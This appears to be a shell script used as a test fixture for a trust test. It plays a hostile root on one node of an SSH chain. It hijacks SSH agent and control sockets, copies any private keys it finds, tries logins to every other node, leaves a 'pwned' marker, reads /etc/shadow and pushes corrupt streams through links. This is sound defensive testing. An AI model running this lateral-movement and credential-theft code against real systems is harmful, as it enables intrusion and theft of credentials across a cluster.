#!/bin/sh
# Root on a chain node turned hostile, for tests/test_trust.py: while the converge runs, try
# every credential this host holds against every other node, the master included, and report
# each try on stdout. Usage: chain_attack.sh SECONDS NODE...
# Each line: "shell NODE HOW" (a command ran there: the hole), "said NODE HOW: FIRST LINE"
# (what a login through a chain link answered), "seen WHAT" (a credential found).
# Ends after SECONDS, or once /tmp/stop-attack exists.
end=$(($(date +%s) + $1))
shift
me=$(hostname)
opts="-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3"
try() {  # NODE HOW SSH-ARGS...: run a command there that leaves a mark
  node=$1 how=$2
  shift 2
  # shellcheck disable=SC2086,SC2029  # $opts holds several options; $me is this host's name
  if ssh $opts "$@" "$node" "touch /root/pwned-by-$me; echo shell-ok" < /dev/null 2>/dev/null | grep -q '^shell-ok'; then
    echo "shell $node $how"
  fi
}
streamed=
while [ "$(date +%s)" -lt "$end" ] && [ ! -e /tmp/stop-attack ]; do
  # agent sockets and control sockets: every socket in /tmp and root's home
  find /tmp /root -type s > /tmp/.attack-sockets 2>/dev/null
  while read -r s; do
    echo "seen socket $s"
    for node in "$@"; do
      SSH_AUTH_SOCK=$s try "$node" "agent $s"
      try "$node" "link $s" -o ControlPath="$s" -o ControlMaster=no
      # shellcheck disable=SC2086
      answer=$(ssh $opts -o ControlPath="$s" -o ControlMaster=no "$node" "cat /etc/shadow" < /dev/null 2>/dev/null | head -n 1)
      [ -n "$answer" ] && echo "said $node command through $s: $answer"
    done
    case "$s" in
      /tmp/.alluxio-chain-*)
        if [ -z "$streamed" ]; then  # once: a corrupt stream fed through the link
          streamed=1
          for node in "$@"; do
            # shellcheck disable=SC2086
            answer=$(head -c 200000 /dev/urandom | ssh $opts -o ControlPath="$s" -o ControlMaster=no "$node" stream 2>/dev/null | grep -v '^lost' | head -n 1)
            [ -n "$answer" ] && echo "said $node stream through $s: $answer"
          done
        fi ;;
    esac
  done < /tmp/.attack-sockets
  # private keys: root's own, and any in /tmp (a hop key while its link is made)
  grep -rl 'PRIVATE KEY' /tmp /root/.ssh > /tmp/.attack-keys 2>/dev/null
  while read -r k; do
    echo "seen key $k"
    cp "$k" /tmp/.stolen-key 2>/dev/null && chmod 600 /tmp/.stolen-key
    for node in "$@"; do
      try "$node" "key $k" -i /tmp/.stolen-key -o IdentitiesOnly=yes
      # shellcheck disable=SC2086
      answer=$(ssh $opts -i /tmp/.stolen-key -o IdentitiesOnly=yes "$node" "cat /etc/shadow" < /dev/null 2>/dev/null | head -n 1)
      [ -n "$answer" ] && echo "said $node command with $k: $answer"
    done
  done < /tmp/.attack-keys
  sleep 0.1
done
rm -f /tmp/.stolen-key /tmp/.attack-sockets /tmp/.attack-keys
